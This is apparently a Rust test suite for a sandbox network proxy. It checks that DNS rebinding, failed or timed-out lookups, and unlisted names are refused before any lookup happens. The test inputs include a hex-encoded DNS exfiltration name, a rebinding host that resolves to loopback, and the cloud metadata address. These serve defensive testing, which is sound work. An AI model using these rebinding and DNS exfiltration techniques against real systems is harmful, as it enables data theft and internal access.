//! What the host's lookup decides (attacker's review): through the user's proxy, the address the
//! guard checked is what the user's proxy is asked to reach (a name it would resolve again, to
//! loopback perhaps, never goes unless the host's resolver said it does not exist); a lookup that
//! timed out is refused; and with `onRequest` a name on neither list is asked about before any
//! lookup, and its lookup failures are recorded.

use serde_json::json;
use tokio::net::TcpStream;

use super::tests::{assert_refused, exchange, socks_connect, upstream};
use super::tests_chain::{asking, proxy_with, through, user_proxy_knowing};
use crate::network::ask::Decision;
use crate::network::denials::Via;
use crate::network::policy::Refusal;

#[tokio::test]
async fn a_name_that_rebinds_for_the_users_proxy_reaches_only_the_checked_address() {
    // The host's resolver answers a public address; the user's proxy, asked by name, would get the
    // host's loopback (where `secret` listens). It is asked for the public address instead.
    let secret = upstream().await;
    let port = secret.port();
    let (user, seen) = user_proxy_knowing("me", "pw", &[("rebind.test", "127.0.0.1")]).await;
    let names: &[(&str, &[&str])] = &[("rebind.test", &["203.0.113.5"]), ("mixed.test", &["127.0.0.1", "203.0.113.6"])];
    let (p, addr) = proxy_with(json!({"allowedDomains": ["rebind.test", "mixed.test"]}), names, through(user, "me:pw")).await;
    let mut c = TcpStream::connect(addr).await.unwrap();
    let answer = exchange(&mut c, format!("CONNECT rebind.test:{port} HTTP/1.1\r\n\r\n").as_bytes(), "\r\n\r\n").await;
    assert!(answer.starts_with("HTTP/1.1 502"), "the user's proxy could not reach 203.0.113.5 (it never connects off loopback): {answer}");
    let mut h = TcpStream::connect(addr).await.unwrap();
    let got = exchange(&mut h, format!("GET http://rebind.test:{port}/x HTTP/1.1\r\n\r\n").as_bytes(), "user proxy got").await;
    assert!(got.contains(&format!("user proxy got: GET http://203.0.113.5:{port}/x HTTP/1.1")), "{got}");
    // Of a name's addresses, only those the guard passed are offered.
    let mut m = TcpStream::connect(addr).await.unwrap();
    let answer = exchange(&mut m, format!("CONNECT mixed.test:{port} HTTP/1.1\r\n\r\n").as_bytes(), "\r\n\r\n").await;
    assert!(answer.starts_with("HTTP/1.1 502"), "{answer}");
    let seen = seen.lock().unwrap().clone();
    let expected = [format!("CONNECT 203.0.113.5:{port} HTTP/1.1 auth=true"), format!("GET http://203.0.113.5:{port}/x HTTP/1.1 auth=true"), format!("CONNECT 203.0.113.6:{port} HTTP/1.1 auth=true")];
    assert_eq!(seen, expected, "the user's proxy never got a name the host had resolved");
    assert!(p.finish().await.denials.is_empty());
}

#[tokio::test]
async fn the_host_header_keeps_the_name_when_the_address_goes_upstream() {
    // The user's proxy here is a plain HTTP server that echoes the request's target and Host.
    let echo = upstream().await;
    let policy = json!({"allowedDomains": ["site.test"], "allowPrivateAddresses": ["127.0.0.1"]});
    let url = crate::network::upstream::ProxyUrl::parse(&format!("http://{echo}")).unwrap();
    let extras = super::Extras { upstream: Some(crate::network::upstream::Upstream::all_through(url)), ..Default::default() };
    let (p, addr) = proxy_with(policy, &[("site.test", &["127.0.0.1"])], extras).await;
    let mut c = TcpStream::connect(addr).await.unwrap();
    let got = exchange(&mut c, b"GET http://site.test:8080/a HTTP/1.1\r\n\r\n", "host=").await;
    assert!(got.contains("path=http://127.0.0.1:8080/a host=site.test:8080"), "{got}");
    drop(p);
}

#[tokio::test]
async fn a_lookup_that_fails_or_times_out_is_refused_not_passed_to_the_users_proxy() {
    // `db.test` is listed but its lookup on the host times out (a command can cause that by keeping
    // the run's lookup slots busy); the user's proxy would resolve it to the host's loopback.
    let secret = upstream().await;
    let port = secret.port();
    let (user, seen) = user_proxy_knowing("me", "pw", &[("db.test", "127.0.0.1"), ("far.test", "127.0.0.1")]).await;
    let names: &[(&str, &[&str])] = &[("db.test", &[])];
    let (p, addr) = proxy_with(json!({"allowedDomains": ["db.test", "far.test"]}), names, through(user, "me:pw")).await;
    let mut c = TcpStream::connect(addr).await.unwrap();
    let answer = exchange(&mut c, format!("CONNECT db.test:{port} HTTP/1.1\r\n\r\n").as_bytes(), "To allow it").await;
    assert!(answer.starts_with("HTTP/1.1 403") && answer.to_lowercase().contains("x-sandspawn-denied: lookup_failed"), "{answer}");
    let mut h = TcpStream::connect(addr).await.unwrap();
    let answer = exchange(&mut h, format!("GET http://db.test:{port}/ HTTP/1.1\r\n\r\n").as_bytes(), "To allow it").await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    assert_eq!(socks_connect(addr, "db.test", port).await.0, 4, "SOCKS5: host unreachable");
    assert!(seen.lock().unwrap().is_empty(), "the user's proxy was never asked");
    // A name the host's resolver says does not exist is the user's proxy's to resolve.
    let mut f = TcpStream::connect(addr).await.unwrap();
    let head = exchange(&mut f, format!("CONNECT far.test:{port} HTTP/1.1\r\n\r\n").as_bytes(), "\r\n\r\n").await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    assert_eq!(seen.lock().unwrap().clone(), [format!("CONNECT far.test:{port} HTTP/1.1 auth=true")]);
    let denials: Vec<(String, Via, Refusal)> = p.finish().await.denials.into_iter().map(|d| (d.host, d.via, d.reason)).collect();
    let db = |via| ("db.test".to_string(), via, Refusal::LookupFailed);
    assert_eq!(denials, [db(Via::Connect), db(Via::Http), db(Via::Socks5)]);
}

#[tokio::test]
async fn names_on_neither_list_are_asked_about_before_any_lookup() {
    // Every answer is deny: no name the command made up may reach a name server (DNS exfiltration).
    let (extras, asked) = asking(Decision::Deny);
    let (p, addr) = proxy_with(json!({"allowedDomains": []}), &[], extras).await;
    let mut c = TcpStream::connect(addr).await.unwrap();
    let answer = exchange(&mut c, b"CONNECT 736563726574.exfil.test:443 HTTP/1.1\r\n\r\n", "To allow it").await;
    assert!(answer.contains("(declined)"), "{answer}");
    let mut h = TcpStream::connect(addr).await.unwrap();
    let answer = exchange(&mut h, b"GET http://second.exfil.test/ HTTP/1.1\r\n\r\n", "To allow it").await;
    assert!(answer.contains("(declined)"), "{answer}");
    assert_eq!(socks_connect(addr, "third.exfil.test", 80).await.0, 2);
    assert_eq!(p.looked_up(), Vec::<String>::new(), "nothing was looked up");
    assert_eq!(asked.lock().unwrap().len(), 3, "each name was asked about");
    let done = p.finish().await;
    assert_eq!(done.decisions.len(), 3);
    assert!(done.denials.iter().all(|d| d.reason == Refusal::Declined) && done.denials.len() == 3, "{:?}", done.denials);
}

#[tokio::test]
async fn after_an_allow_a_name_is_looked_up_checked_and_its_failures_recorded() {
    let (extras, asked) = asking(Decision::Allow);
    let names: &[(&str, &[&str])] = &[("inside.test", &["10.1.2.3"]), ("slow.test", &[])];
    let (p, addr) = proxy_with(json!({"allowedDomains": []}), names, extras).await;
    let cases = [
        ("CONNECT inside.test:443 HTTP/1.1\r\n\r\n", "(private_address)"),
        ("CONNECT nx.test:443 HTTP/1.1\r\n\r\n", "(lookup_failed)"),
        ("GET http://slow.test/ HTTP/1.1\r\n\r\n", "(lookup_failed)"),
        // An address literal needs no lookup: the guard refuses it before anyone is asked.
        ("CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n", "(private_address)"),
    ];
    assert_refused(addr, &cases).await;
    assert_eq!(socks_connect(addr, "nx.test", 80).await.0, 4, "SOCKS5: host unreachable, and recorded");
    let asked: Vec<String> = asked.lock().unwrap().iter().map(|q| q.host.clone()).collect();
    assert_eq!(asked, ["inside.test", "nx.test", "slow.test", "nx.test"]);
    assert_eq!(p.looked_up(), ["inside.test", "nx.test", "slow.test", "nx.test"]);
    let denials: Vec<(String, u16, Refusal)> = p.finish().await.denials.into_iter().map(|d| (d.host, d.port, d.reason)).collect();
    let expected = [
        ("inside.test".to_string(), 443, Refusal::PrivateAddress),
        ("nx.test".to_string(), 443, Refusal::LookupFailed),
        ("slow.test".to_string(), 80, Refusal::LookupFailed),
        ("169.254.169.254".to_string(), 80, Refusal::PrivateAddress),
        ("nx.test".to_string(), 80, Refusal::LookupFailed),
    ];
    assert_eq!(denials, expected);
}
